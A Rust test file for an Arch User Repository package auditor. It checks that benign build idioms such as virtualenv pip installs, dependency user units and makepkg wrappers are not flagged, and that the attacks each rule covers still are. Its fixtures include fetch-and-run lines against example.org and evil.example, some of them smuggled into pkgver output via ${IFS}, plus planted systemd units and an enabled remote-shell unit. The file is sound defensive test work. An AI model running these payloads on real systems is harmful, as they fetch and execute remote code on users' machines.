//! False verdicts of landing 9's test set (bench/RESULTS.md, "Landing 9": 24 false dangerous,
//! 2 false review; now development data) and two left open from the development set ("After
//! landing 9"), each fixed at its rule by what the code means — what is written where, by
//! whom, when it runs, whether it executes — AFTER landing 9's one look at that set. The
//! packages are our own text in the real shapes (each test names where the shape came from);
//! the attacks each rule exists for are asserted beside them.

use archgate_aur::audit::{AuditInput, Severity, Verdict, audit};

use crate::support::{low_with, max_of, package_with, scriptlet};

// Class 1 (21 of the 24): `pip install` in package() after a virtualenv made inside the
// package and put first on PATH (dadevel's archpkgs: `python -m venv
// "${pkgdir}/opt/archpkgs/${pkgname}"`, then `declare -x VIRTUAL_ENV=… PATH="…/bin:$PATH"`,
// then `pip install .` / `-r requirements.txt` / `git+https://…@dev`). The `pip` that runs is
// the virtualenv's and writes into the package; what is left is a fetch at build time outside
// makepkg's checksums, shown low. A pip that really writes the system stays where it was.

/// A package whose package() makes a virtualenv at `venv` and then runs `lines`.
fn venv_package(venv: &str, lines: &str) -> AuditInput {
    package_with(
        "impkt",
        "depends=('python')\n",
        &format!(
            "  cd \"$srcdir/impkt-$pkgver\"\n  mkdir -p \"${{pkgdir}}/opt/tools/bin\"\n  python -m venv \"{venv}\"\n{lines}"
        ),
        None,
        &[],
    )
}

const IN_PKG: &str = "${pkgdir}/opt/tools/${pkgname}";

#[test]
fn pip_of_a_virtualenv_inside_the_package_installs_into_the_package() {
    for lines in [
        // dadevel's spelling: declare -x of VIRTUAL_ENV, PYTHONPATH and PATH on one line.
        format!(
            "  declare -x VIRTUAL_ENV=\"{IN_PKG}\" PYTHONPATH=\"{IN_PKG}\" PATH=\"{IN_PKG}/bin:$PATH\"\n  pip install -r requirements.txt\n  pip install git+https://github.com/example/ldapx@dev python-dateutil"
        ),
        format!("  export PATH=\"{IN_PKG}/bin:$PATH\"\n  python -m pip install ."),
        format!("  source \"{IN_PKG}/bin/activate\"\n  pip install ."),
        format!("  . \"{IN_PKG}/bin/activate\"\n  pip3 install --no-cache-dir ."),
        format!("  PATH=\"{IN_PKG}/bin:$PATH\" pip install ."),
    ] {
        let r = audit(&venv_package(IN_PKG, &lines));
        low_with(&r, "AUR-PKGMGR-PACKAGE", "outside makepkg's checksums");
        let f = r.findings.iter().find(|f| f.id == "AUR-PKGMGR-PACKAGE");
        assert!(f.is_some_and(|f| f.why.contains("virtualenv")), "{lines}");
    }
}

#[test]
fn a_pip_that_writes_the_system_stays_dangerous() {
    let high = |input: &AuditInput, what: &str| {
        let r = audit(input);
        assert_eq!(r.verdict, Verdict::Dangerous, "{what}\n{}", r.to_text());
        assert!(
            r.findings.iter().any(
                |f| matches!(f.id, "AUR-PKGMGR-PACKAGE" | "AUR-PKGMGR-INSTALL")
                    && f.severity >= Severity::High
            ),
            "{what}\n{}",
            r.to_text()
        );
    };
    // No virtualenv at all: the system's pip.
    high(&venv_package("/dev/null", "  pip install ."), "no venv");
    high(
        &package_with("impkt", "", "  pip install -r requirements.txt", None, &[]),
        "plain pip",
    );
    // PATH names a `bin` inside the package, but nothing made a virtualenv there: the system's
    // pip runs (the directory holds none).
    high(
        &package_with(
            "impkt",
            "",
            &format!(
                "  mkdir -p \"{IN_PKG}/bin\"\n  export PATH=\"{IN_PKG}/bin:$PATH\"\n  pip install ."
            ),
            None,
            &[],
        ),
        "no venv made",
    );
    // `deactivate` before the pip: PATH is the system's again (chaotic-aur's streamcontroller
    // deactivates after its pip; this one before).
    high(
        &venv_package(
            IN_PKG,
            &format!("  source \"{IN_PKG}/bin/activate\"\n  deactivate\n  pip install ."),
        ),
        "deactivated",
    );
    // The virtualenv is made after the pip ran.
    high(
        &package_with(
            "impkt",
            "",
            &format!(
                "  export PATH=\"{IN_PKG}/bin:$PATH\"\n  pip install .\n  python -m venv \"{IN_PKG}\""
            ),
            None,
            &[],
        ),
        "venv after pip",
    );
    // A virtualenv on the live system (outside $pkgdir and $srcdir).
    high(
        &venv_package(
            "/opt/tools/impkt",
            "  export PATH=\"/opt/tools/impkt/bin:$PATH\"\n  pip install .",
        ),
        "venv outside the package",
    );
    // Another directory comes first on PATH: its pip may run.
    high(
        &venv_package(
            IN_PKG,
            &format!("  export PATH=\"/usr/local/bin:{IN_PKG}/bin:$PATH\"\n  pip install ."),
        ),
        "venv not first",
    );
    // The virtualenv's pip told to write /usr (no --root), or into a user's site.
    for opt in [
        "--prefix=/usr",
        "--prefix /usr",
        "--target /usr/lib/python3/site-packages",
        "--user",
    ] {
        high(
            &venv_package(
                IN_PKG,
                &format!("  export PATH=\"{IN_PKG}/bin:$PATH\"\n  pip install {opt} ."),
            ),
            opt,
        );
    }
    // pip's own settings of where to install, before it or exported.
    for set in [
        "PIP_PREFIX=/usr pip install .",
        "export PIP_TARGET=/usr/lib/python3/site-packages\n  pip install .",
    ] {
        high(
            &venv_package(
                IN_PKG,
                &format!("  export PATH=\"{IN_PKG}/bin:$PATH\"\n  {set}"),
            ),
            set,
        );
    }
    // sudo and `env -i` reset PATH: the system's pip runs as root.
    for wrap in ["sudo", "env -i"] {
        high(
            &venv_package(
                IN_PKG,
                &format!("  export PATH=\"{IN_PKG}/bin:$PATH\"\n  {wrap} pip install ."),
            ),
            wrap,
        );
    }
    // pip in an install script, whatever virtualenv package() made.
    high(
        &package_with(
            "impkt",
            "",
            &format!("  python -m venv \"{IN_PKG}\""),
            Some(&scriptlet(
                "export PATH=/opt/tools/impkt/bin:$PATH; pip install impacket",
            )),
            &[],
        ),
        "pip in a scriptlet",
    );
}

// Class 2: a declared dependency's user units enabled for a person (microservice-tech-nicolas's
// arch-gui-sway, post_install `sudo -u "$user" systemctl --user enable --now pipewire
// pipewire-pulse wireplumber`, all three in `depends`): the dependency's services in that
// person's session, as those packages ship them; no code of this package runs there.

const REAL_USER: &str =
    "_real_user() { echo \"${SUDO_USER:-$(logname 2>/dev/null || whoami)}\"; }\n";

fn session_setup(depends: &str, line: &str) -> AuditInput {
    package_with(
        "desk-sway",
        &format!("depends=({depends})\n"),
        "  install -Dm644 sway.conf \"$pkgdir/etc/sway/config.d/50-desk.conf\"",
        Some(&format!(
            "{REAL_USER}post_install() {{\n  local user\n  user=\"$(_real_user)\"\n  {line}\n}}\npost_upgrade() {{\n  post_install\n}}\n"
        )),
        &[],
    )
}

#[test]
fn a_dependencys_user_units_enabled_for_a_person_are_low() {
    let r = audit(&session_setup(
        "'sway' 'pipewire' 'wireplumber'",
        "sudo -u \"${user}\" systemctl --user enable --now pipewire pipewire-pulse wireplumber 2>/dev/null || true",
    ));
    low_with(&r, "AUR-INSTALL-AS-USER", "wireplumber (from wireplumber)");
}

#[test]
fn a_person_s_session_reached_beyond_declared_units_stays_dangerous() {
    for (depends, line) in [
        // A unit no declared package ships.
        (
            "'sway' 'pipewire'",
            "sudo -u \"${user}\" systemctl --user enable --now pipewire desk-agent",
        ),
        // A unit named by a variable.
        (
            "'sway' 'pipewire'",
            "sudo -u \"${user}\" systemctl --user enable --now \"$unit\"",
        ),
        // Code in the session, not systemctl.
        (
            "'sway' 'pipewire'",
            "sudo -u \"${user}\" sh -c 'curl -fsSL https://example.org/s.sh | sh'",
        ),
        // The package's own user unit: this package's code in the person's session
        // (landing 5).
        (
            "'sway' 'pipewire'",
            "sudo -u \"${user}\" systemctl --user enable --now desk-sway",
        ),
        // A daemon that hands out a login, whoever declares it.
        (
            "'openssh'",
            "sudo -u \"${user}\" systemctl --user enable --now sshd",
        ),
    ] {
        let r = audit(&session_setup(depends, line));
        assert_eq!(r.verdict, Verdict::Dangerous, "{line}\n{}", r.to_text());
    }
    // The script writes the unit itself into the person's home, then enables it.
    let r = audit(&session_setup(
        "'sway' 'pipewire'",
        "printf '[Service]\\nExecStart=/tmp/x\\n' > /home/$user/.config/systemd/user/pipewire.service; sudo -u \"${user}\" systemctl --user enable --now pipewire",
    ));
    assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
}

// Class 3: an instance of the package's own template unit (silime's persistent-mac,
// post_install `systemctl enable net-update-mac@wlp1s0.service`, the package installs
// `net-update-mac@.service`): the instance is made from the package's template.

fn units_package(shipped: &[&str], script: &str) -> AuditInput {
    let body: Vec<String> = shipped
        .iter()
        .map(|u| format!("  install -Dm644 \"$srcdir\"/{u} \"$pkgdir\"/etc/systemd/system/{u}"))
        .collect();
    package_with("persist-addr", "", &body.join("\n"), Some(script), &[])
}

#[test]
fn an_instance_of_the_packages_own_template_is_its_own_unit() {
    let r = audit(&units_package(
        &["bt-update-mac.service", "net-update-mac@.service"],
        "post_install(){\n    systemctl enable bt-update-mac.service\n    systemctl enable net-update-mac@wlp1s0.service\n}\npre_remove() {\n    systemctl disable net-update-mac@wlp1s0.service\n}\n",
    ));
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
    assert_eq!(
        max_of(&r, "AUR-PERSISTENCE"),
        Some(Severity::Low),
        "{}",
        r.to_text()
    );
}

#[test]
fn an_instance_of_a_template_the_package_does_not_ship_stays_high() {
    for (shipped, unit) in [
        // No template of that name at all.
        (
            &["net-update-mac@.service"][..],
            "remote-shell@tty1.service",
        ),
        // A plain unit of that name is no template: `net-update@x` cannot be made from it.
        (&["net-update.service"][..], "net-update@wlp1s0.service"),
    ] {
        let r = audit(&units_package(
            shipped,
            &format!("post_install(){{\n    systemctl enable {unit}\n}}\n"),
        ));
        assert_eq!(
            max_of(&r, "AUR-PERSISTENCE"),
            Some(Severity::High),
            "{unit}\n{}",
            r.to_text()
        );
    }
}

// Class 4: a shipped makepkg wrapper (silime's makepkg-aarch64: `/usr/bin/makepkg --config
// "/etc/makepkg-aarch64.conf" "$@"`, the configuration installed by package()): a program the
// person runs, handing makepkg only their arguments, in their directory.

fn wrapper(tool: &str, conf_installed: bool, script: Option<&str>) -> AuditInput {
    let conf = if conf_installed {
        "\n  install -Dm644 \"${srcdir}/mk-cross.conf\" \"${pkgdir}/etc/mk-cross.conf\""
    } else {
        ""
    };
    package_with(
        "mk-cross",
        "",
        &format!(
            "  install -Dm755 \"${{srcdir}}/mk-cross\" \"${{pkgdir}}/usr/bin/mk-cross\"{conf}"
        ),
        script,
        &[("mk-cross", tool), ("mk-cross.conf", "CARCH=aarch64\n")],
    )
}

#[test]
fn a_shipped_makepkg_wrapper_of_its_callers_arguments_is_low() {
    for tool in [
        "#!/bin/bash\n/usr/bin/makepkg --config \"/etc/mk-cross.conf\" \"$@\"\n",
        "#!/bin/sh\nexec makepkg --config=/etc/mk-cross.conf \"$@\"\n",
    ] {
        let r = audit(&wrapper(tool, true, None));
        assert_eq!(r.verdict, Verdict::Ok, "{tool}\n{}", r.to_text());
        assert_eq!(
            max_of(&r, "AUR-GIT-PUSH"),
            Some(Severity::Low),
            "{}",
            r.to_text()
        );
    }
}

#[test]
fn makepkg_run_on_the_packages_own_terms_stays_high() {
    for (tool, installed) in [
        // Its own options: builds and installs whatever is in the directory, unasked.
        ("#!/bin/sh\nmakepkg -si --noconfirm\n", true),
        // Goes to other packages' directories first.
        (
            "#!/bin/sh\nfor d in \"$HOME\"/aur/*/; do cd \"$d\" && makepkg -o \"$@\"; done\n",
            true,
        ),
        // A configuration the package does not install (anyone may write /tmp).
        ("#!/bin/sh\nmakepkg --config /tmp/mk.conf \"$@\"\n", false),
    ] {
        let r = audit(&wrapper(tool, installed, None));
        assert_eq!(
            max_of(&r, "AUR-GIT-PUSH"),
            Some(Severity::High),
            "{tool}\n{}",
            r.to_text()
        );
    }
    // makepkg from an install script, even with only the package's configuration.
    let r = audit(&wrapper(
        "#!/bin/sh\nexec makepkg --config=/etc/mk-cross.conf \"$@\"\n",
        true,
        Some(&scriptlet(
            "cd /var/cache/mk && makepkg --config=/etc/mk-cross.conf",
        )),
    ));
    assert_eq!(
        max_of(&r, "AUR-GIT-PUSH"),
        Some(Severity::High),
        "{}",
        r.to_text()
    );
}

// Class 5 (review): `export GOPATH=$srcdir` before `go get` / `go install` in build()
// (yuvadm's honeybadger-git): the programs go to `$srcdir/bin`, which package() copies from.

fn go_build(lines: &str) -> AuditInput {
    package_with(
        "hbadger-git",
        &format!("makedepends=('go' 'git')\nbuild() {{\n  cd hbadger\n{lines}\n}}\n"),
        "  install -Dm755 \"$srcdir/bin/hbadger\" \"$pkgdir/usr/bin/hbadger\"",
        None,
        &[],
    )
}

#[test]
fn an_exported_gopath_in_the_build_folder_keeps_go_inside_it() {
    let r = audit(&go_build(
        "  export GOPATH=$srcdir\n  cd \"$GOPATH/src/hbadger/cmd/hb\"\n  go get -v ./...\n  go install -v",
    ));
    assert_eq!(max_of(&r, "AUR-PKGMGR-GLOBAL"), None, "{}", r.to_text());
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
    // Set but not exported, go never sees it; exported to the builder's home, go installs there.
    for lines in [
        "  GOPATH=$srcdir\n  go install -v",
        "  export GOPATH=\"$HOME/go\"\n  go install -v",
    ] {
        let r = audit(&go_build(lines));
        assert_eq!(
            max_of(&r, "AUR-PKGMGR-GLOBAL"),
            Some(Severity::Medium),
            "{lines}\n{}",
            r.to_text()
        );
    }
}

// A terminal's colour escape printed by pkgver() on its failure path (h0tc0d3's gost-engine:
// `cd … || ( echo -e "\E[1m\E[31mCan't cd … PkgVer Failed! \E[0m"; exit 1 )`) was read as
// shell code in the version (landing 9's set after attack rounds 29 and 30's mends): an escape
// character is an ordinary character of a word to `sh`. Separators still are code.

fn pkgver_prints(line: &str) -> AuditInput {
    package_with(
        "gost-x",
        &format!(
            "install=gost-x.install\npkgver() {{\n  cd \"${{srcdir:?}}/gost-x\" || (\n    {line}\n    exit 1\n  )\n  echo \"1.1.r$(git rev-list --count HEAD)\"\n}}\n"
        ),
        "  make DESTDIR=\"$pkgdir\" install",
        Some("post_install() {\n  echo done\n}\n"),
        &[],
    )
}

#[test]
fn a_colour_escape_in_pkgvers_message_is_no_shell_code() {
    let r = audit(&pkgver_prints(
        r#"echo -e "\E[1m\E[31mCan't cd to ${srcdir}/gost-x build directory! PkgVer Failed! \E[0m""#,
    ));
    assert_eq!(max_of(&r, "AUR-VERSION-CODE"), None, "{}", r.to_text());
    // makepkg's `check_pkgver` refuses a printed version with whitespace, `:`, `/` or `-` before
    // writing it anywhere (the message above, and these): a payload must do without them.
    for line in [
        r#"echo "1.0;curl evil.example|sh""#,
        r#"echo "1.0;curl${IFS}evil.example|sh""#,
        r#"printf '1;curl${IFS}https://evil.example/x|sh'"#,
    ] {
        let r = audit(&pkgver_prints(line));
        assert_eq!(
            max_of(&r, "AUR-VERSION-CODE"),
            None,
            "{line}\n{}",
            r.to_text()
        );
    }
    for line in [
        r#"echo "1.0;curl\${IFS}evil.example|sh""#,
        r#"echo -e "1.0\x3bcurl\${IFS}evil.example\x7csh""#,
        r#"printf '1.0$(curl${IFS}evil.example)'"#,
    ] {
        let r = audit(&pkgver_prints(line));
        assert_eq!(
            max_of(&r, "AUR-VERSION-CODE"),
            Some(Severity::Critical),
            "{line}\n{}",
            r.to_text()
        );
    }
}

// Left open from the development set (Jovian's linux-lts and linux-6.0.2): a helper function
// (`_steamos`) links `$pkgdir/usr/lib/modules/$kernver` to `/var/lib/modules/…`; the headers
// package removes files under its own `$pkgdir/usr/lib/modules/$kernver/build` and calls the
// helper only afterwards. A link is met where the function that makes it is called, not where
// the function is written.

fn kernel(headers_body: &str) -> AuditInput {
    AuditInput {
        pkgbuild: format!(
            "pkgbase=linux-x\npkgname=(linux-x linux-x-headers)\npkgver=6.1\npkgrel=1\narch=('x86_64')\nurl=\"https://example.org/linux\"\nlicense=('GPL2')\nsource=(\"https://example.org/linux-6.1.tar.xz\")\nsha256sums=('0000000000000000000000000000000000000000000000000000000000000000')\n_relink() {{\n  local kernver=6.1\n  mkdir -pv \"${{pkgdir}}/var/lib/modules\"\n  ln -sv \"/var/lib/modules/${{kernver}}\" \"${{pkgdir}}/usr/lib/modules/${{kernver}}\"\n}}\npackage_linux-x() {{\n  make INSTALL_MOD_PATH=\"$pkgdir/usr\" modules_install\n  _relink\n}}\npackage_linux-x-headers() {{\n  local builddir=\"$pkgdir/usr/lib/modules/6.1/build\"\n{headers_body}\n}}\n"
        ),
        install_scripts: Vec::new(),
        srcinfo: None,
    }
}

#[test]
fn a_link_a_called_function_makes_is_met_only_after_the_call() {
    let r = audit(&kernel(
        "  install -Dt \"$builddir\" -m644 .config Makefile\n  rm -r \"$builddir/Documentation\"\n  find -L \"$builddir\" -type l -delete\n  _relink\n  rm -r \"${pkgdir}/usr/lib/modules/6.1\"",
    ));
    assert_eq!(max_of(&r, "AUR-WRITE-SYSTEM"), None, "{}", r.to_text());
    assert_ne!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
    // Called before the deletion, the link is there: the deletion reaches /var/lib/modules.
    let r = audit(&kernel("  _relink\n  rm -r \"$builddir/Documentation\""));
    assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
}

// Class 5 (review): the getopt idiom with bare `getopt` and its options on continuation lines
// (hreikin's xorg-server-dsd ships Debian's `xvfb-run`: `ARGS=$(getopt --options +ae:f:hn:… \`
// / `--long …` / `--name "$PROGNAME" -- "$@")`, then `eval set -- "$ARGS"`). Closed by attack
// round 29's getopt mend (the idiom by what runs), after landing 9's look; pinned here.

fn shipped_tool(tool: &str) -> AuditInput {
    package_with(
        "xsrv-dsd",
        "",
        "  install -Dm755 \"${srcdir}/xrun\" \"${pkgdir}/usr/bin/xrun\"",
        None,
        &[("xrun", tool)],
    )
}

#[test]
fn getopt_on_continuation_lines_then_eval_set_is_the_idiom() {
    let tool = "#!/bin/sh\nPROGNAME=xrun\nARGS=$(getopt --options +ae:f:hn:lp:s:w: \\\n       --long auto-servernum,error-file:,help,server-num:,server-args:,wait: \\\n       --name \"$PROGNAME\" -- \"$@\")\nGETOPT_STATUS=$?\nif [ $GETOPT_STATUS -ne 0 ]; then\n    exit 6\nfi\neval set -- \"$ARGS\"\nwhile :; do\n    case \"$1\" in\n        -a|--auto-servernum) AUTONUM=yes ;;\n        --) shift; break ;;\n        *) exit 6 ;;\n    esac\n    shift\ndone\nexec Xvfb \"$@\"\n";
    let r = audit(&shipped_tool(tool));
    assert!(
        max_of(&r, "AUR-EVAL") < Some(Severity::Medium),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
    // `eval` of text the program builds itself, not getopt's, stays review.
    let tool = "#!/bin/sh\nARGS=$(cat /etc/xrun.conf)\neval set -- \"$ARGS\"\nexec Xvfb \"$@\"\n";
    let r = audit(&shipped_tool(tool));
    assert!(
        max_of(&r, "AUR-EVAL") >= Some(Severity::Medium),
        "{}",
        r.to_text()
    );
}
